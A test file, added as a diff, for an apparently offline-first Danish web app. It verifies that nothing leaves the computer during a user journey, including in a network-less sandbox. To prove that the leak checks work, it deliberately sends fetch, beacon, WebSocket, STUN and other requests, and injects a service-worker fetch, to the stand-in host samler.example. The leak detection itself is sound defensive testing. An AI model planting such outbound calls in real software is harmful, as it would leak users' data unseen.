@@ -1,0 +1,241 @@
+//! Nothing leaves the computer: shown by watching a whole journey, and by a check that finds what is let out on purpose.
+
+use std::process::Command;
+
+use serde_json::json;
+
+use crate::offline::one_file;
+use crate::screens::places;
+use crate::support::{Page, file_of, run_watched};
+
+/// Nobody has this address: what asks for it is found on the way there.
+const ELSEWHERE: &str = "samler.example";
+
+/// All that a group does in a year, in a browser where the app is open at its front page.
+async fn journey(page: &Page) {
+    page.script("window.print = () => { window.printed = true; }").await;
+    page.press("Se et udfyldt eksempel").await;
+    let id = page.in_process().await;
+    for (_, place) in places(page, &id).await {
+        page.go(&place).await;
+    }
+    page.fill("Sprog", "English").await;
+    page.see("Language").await;
+    page.fill("Language", "Dansk").await;
+    page.go(&format!("/forloeb/{id}/beskriv")).await;
+    page.add("Skriv ét bøvl på én linje", &["Fru Hansens medicin"]).await;
+    page.kept().await;
+    page.go(&format!("/forloeb/{id}/papirer")).await;
+    page.press("Udskriv").await;
+    assert_eq!(page.script("return window.printed ?? null").await, json!(true));
+    page.press("Gem som fil").await;
+    page.downloaded(0).await;
+
+    page.go(&format!("/forloeb/{id}/del")).await;
+    page.unfold("Lås filen med en adgangssætning").await;
+    page.tick("Jeg har skrevet adgangssætningen ned").await;
+    let before = page.download_count();
+    page.press("Lås og hent filen").await;
+    page.downloaded(before).await;
+    page.unfold("App og forløb i én fil").await;
+    page.press("Hent app og forløb i én fil").await;
+    page.downloaded_as("html", 0).await;
+
+    // Two copies come in, and the second goes into the first.
+    page.go("/").await;
+    page.give("foerste.samskab.json", file_of("p1", "Fælles", &["Skemaer"]).as_bytes()).await;
+    page.see("Fælles").await;
+    page.go("/").await;
+    page.give("anden.samskab.json", file_of("p1", "Fælles", &["Skemaer", "Nøgler"]).as_bytes()).await;
+    page.press("Saml svarene").await;
+    page.see("Svarene er samlet i «Fælles»").await;
+    page.kept().await;
+}
+
+/// In every browser that can be watched from the first line of the page on.
+fn is_watchable() -> bool {
+    let is = std::env::var("SAMSKAB_BROWSER").is_ok_and(|name| !name.is_empty() && name != "chromium");
+    if is {
+        eprintln!("LEFT OUT: only Chromium lets a test see everything that leaves it.");
+    }
+    !is
+}
+
+#[test]
+fn nothing_leaves_while_a_group_works() {
+    if !is_watchable() {
+        return;
+    }
+    run_watched(|page: Page| async move {
+        page.note_outgoing().await;
+        page.open("").await;
+        page.until_offline_ready().await;
+        journey(&page).await;
+        // What is said when a page is left counts too.
+        page.go("/").await;
+        page.reload().await;
+        page.see("Jeres forløb").await;
+        assert_eq!(page.outgoing().await, Vec::<String>::new());
+    });
+}
+
+/// Whether this test runs in a part of the computer that has no network but its own inside.
+const CUT_OFF: &str = "SAMSKAB_CUT_OFF";
+
+/// The same test once more, where there is no network at all; `None` where the computer makes no such place.
+fn cut_off(test: &str) -> Option<bool> {
+    let make = |inside: &str| {
+        let mut command = Command::new("unshare");
+        command.args(["--map-root-user", "--net", "sh", "-c", inside]);
+        command
+    };
+    // The inside of it is there, but asleep; without it the test could not speak with its own browser.
+    let wake = "ip link set lo up";
+    let can = make(wake).status().is_ok_and(|status| status.success());
+    let myself = std::env::current_exe().unwrap();
+    can.then(|| {
+        make(&format!("{wake} && exec \"$0\" --exact {test} --test-threads=1 --nocapture"))
+            .arg(myself)
+            .env(CUT_OFF, "yes")
+            .status()
+            .unwrap()
+            .success()
+    })
+}
+
+/// The whole app in one file, opened from the disk of a computer without a network.
+#[test]
+fn the_one_file_needs_and_asks_nobody() {
+    if !is_watchable() {
+        return;
+    }
+    if std::env::var(CUT_OFF).is_ok() {
+        let roads = std::fs::read_to_string("/proc/net/route").unwrap();
+        assert_eq!(roads.lines().count(), 1, "there is a way out:\n{roads}");
+        let devices = std::fs::read_to_string("/proc/net/dev").unwrap();
+        let names: Vec<&str> =
+            devices.lines().filter_map(|line| line.split_once(':')).map(|(name, _)| name.trim()).collect();
+        assert_eq!(names, ["lo"]);
+    } else {
+        match cut_off("leaks::the_one_file_needs_and_asks_nobody") {
+            Some(passed) => return assert!(passed, "the journey without a network failed: see above"),
+            None => eprintln!(
+                "NOT CUT OFF: this computer makes no place without a network (unshare --net). The journey runs in \
+                 a browser that is only led nowhere."
+            ),
+        }
+    }
+    run_watched(|page: Page| async move {
+        page.note_outgoing().await;
+        page.open_file(&one_file()).await;
+        journey(&page).await;
+        assert_eq!(page.outgoing().await, Vec::<String>::new());
+        assert_eq!(page.take_requests(), Vec::<String>::new(), "not even our own server");
+    });
+}
+
+/// One deliberate request of each kind. What cannot be made says so and is no reason to stop.
+const LET_OUT: &str = "const to = (path) => `http://${arguments[0]}/${path}`; \
+    const attempts = [ \
+      () => fetch(to('fetch')), () => navigator.sendBeacon(to('beacon'), 'x'), \
+      () => new WebSocket(`ws://${arguments[0]}/socket`), () => new EventSource(to('events')), \
+      () => new RTCPeerConnection({ iceServers: [{ urls: `stun:${arguments[0]}` }] }), \
+      () => { new Image().src = to('image'); }, \
+      () => { const it = new XMLHttpRequest(); it.open('GET', to('xhr')); it.send(); }, \
+      () => import(to('module.js')), \
+      () => { const it = document.createElement('link'); it.rel = 'stylesheet'; it.href = to('style'); document.head.append(it); }, \
+    ]; \
+    for (const attempt of attempts) try { await attempt(); } catch {} \
+    await new Promise((done) => setTimeout(done, 500)); return true;";
+
+async fn let_out(page: &Page) -> String {
+    assert_eq!(page.script_with(LET_OUT, &[json!(ELSEWHERE)]).await, json!(true));
+    page.outgoing().await.join("\n")
+}
+
+fn assert_all_said(found: &str, all: &[&str]) {
+    for said in all {
+        let said = said.replace("ELSEWHERE", ELSEWHERE);
+        assert!(found.contains(&said), "«{said}» was not found:\n{found}");
+    }
+}
+
+/// The check of the tests above is no blind eye: what is let out on purpose is found, and the policy has stopped it.
+#[test]
+fn what_is_let_out_on_purpose_is_found_and_stopped() {
+    if !is_watchable() {
+        return;
+    }
+    let called = [
+        "the page: fetch http://ELSEWHERE/fetch",
+        "the page: sendBeacon http://ELSEWHERE/beacon",
+        "the page: WebSocket ws://ELSEWHERE/socket",
+        "the page: EventSource http://ELSEWHERE/events",
+        "the page: RTCPeerConnection stun:ELSEWHERE",
+        "the page: open http://ELSEWHERE/xhr",
+    ];
+    let stopped = [
+        "the page: policy connect-src http://ELSEWHERE/fetch",
+        "the page: policy connect-src http://ELSEWHERE/beacon",
+        "the page: policy connect-src ws://ELSEWHERE/socket",
+        "the page: policy connect-src http://ELSEWHERE/events",
+        "the page: policy connect-src http://ELSEWHERE/xhr",
+        "the page: policy img-src http://ELSEWHERE/image",
+        "the page: policy script-src-elem http://ELSEWHERE/module.js",
+        "the page: policy style-src-elem http://ELSEWHERE/style",
+        "the console: ",
+    ];
+    run_watched(|page: Page| async move {
+        page.note_outgoing().await;
+        for file in [false, true] {
+            if file {
+                page.open_file(&one_file()).await;
+            } else {
+                page.open("").await;
+            }
+            assert_eq!(page.outgoing().await, Vec::<String>::new());
+            let found = let_out(&page).await;
+            assert_all_said(&found, &called);
+            assert_all_said(&found, &stopped);
+            assert!(!found.contains("on the way"), "the policy did not stop it:\n{found}");
+        }
+    });
+}
+
+/// Without the policy it would get out; the watch on the way sees it, also what a worker asks for behind the page.
+#[test]
+fn what_no_policy_stops_is_found_on_the_way() {
+    if !is_watchable() {
+        return;
+    }
+    let on_the_way = [
+        "on the way: GET http://ELSEWHERE/fetch",
+        "on the way: POST http://ELSEWHERE/beacon",
+        "on the way: CONNECT ELSEWHERE:80",
+        "on the way: GET http://ELSEWHERE/events",
+        "on the way: GET http://ELSEWHERE/image",
+        "on the way: GET http://ELSEWHERE/xhr",
+        "on the way: GET http://ELSEWHERE/module.js",
+        "on the way: GET http://ELSEWHERE/style",
+    ];
+    run_watched(|page: Page| async move {
+        page.note_outgoing().await;
+        page.engine("Page.setBypassCSP", json!({ "enabled": true })).await;
+        page.open("").await;
+        let found = let_out(&page).await;
+        assert_all_said(&found, &on_the_way);
+
+        page.host(|hosting| {
+            let worker = std::fs::read_to_string(hosting.root.join("sw.js")).unwrap();
+            let worker = format!("{worker}\nfetch('http://{ELSEWHERE}/worker').catch(() => {{}});");
+            hosting.instead.push(("sw.js".to_owned(), worker.into()));
+        });
+        let other = page.somebody_else().await;
+        other.note_outgoing().await;
+        other.open("").await;
+        other.until_offline_ready().await;
+        let found = other.outgoing().await.join("\n");
+        assert_all_said(&found, &["on the way: GET http://ELSEWHERE/worker"]);
+        other.close().await;
+    });
+}
